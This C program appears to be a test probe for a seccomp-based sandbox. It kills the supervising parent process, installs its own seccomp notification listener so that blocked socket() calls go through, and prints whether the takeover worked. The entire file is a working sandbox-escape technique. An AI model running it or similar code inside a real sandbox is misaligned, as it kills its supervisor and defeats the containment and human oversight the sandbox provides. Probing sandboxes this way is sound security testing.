/* Kills the supervisor, becomes its own, and lets its socket() pass. Prints what came of it. */
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int listener;

static void *let_pass(void *nothing) {
    struct seccomp_notif call;
    struct seccomp_notif_resp answer = {.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
    (void)nothing;
    memset(&call, 0, sizeof call);
    while (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) == 0) {
        answer.id = call.id;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
        memset(&call, 0, sizeof call);
    }
    return NULL;
}

int main(void) {
    struct sock_filter rules[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_socket, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog filter = {sizeof rules / sizeof *rules, rules};
    pthread_t supervisor;
    pid_t keeper = getppid();
    /* The launcher ends its program with the supervisor, not what the program has started. */
    if (fork() != 0)
        return wait(NULL) < 0;
    if (kill(keeper, SIGKILL) < 0) {
        printf("the supervisor lives\n");
        return 1;
    }
    /* Until then the kernel says EBUSY; its threads close last. */
    while (socket(AF_INET, SOCK_STREAM, 0) >= 0 || errno != ENOSYS)
        usleep(1000);
    listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &filter);
    if (listener < 0) {
        printf("refused %d\n", errno);
        return 0;
    }
    if (pthread_create(&supervisor, NULL, let_pass, NULL))
        return 1;
    printf("overthrown %d\n", socket(AF_INET, SOCK_STREAM, 0) >= 0);
    return 0;
}
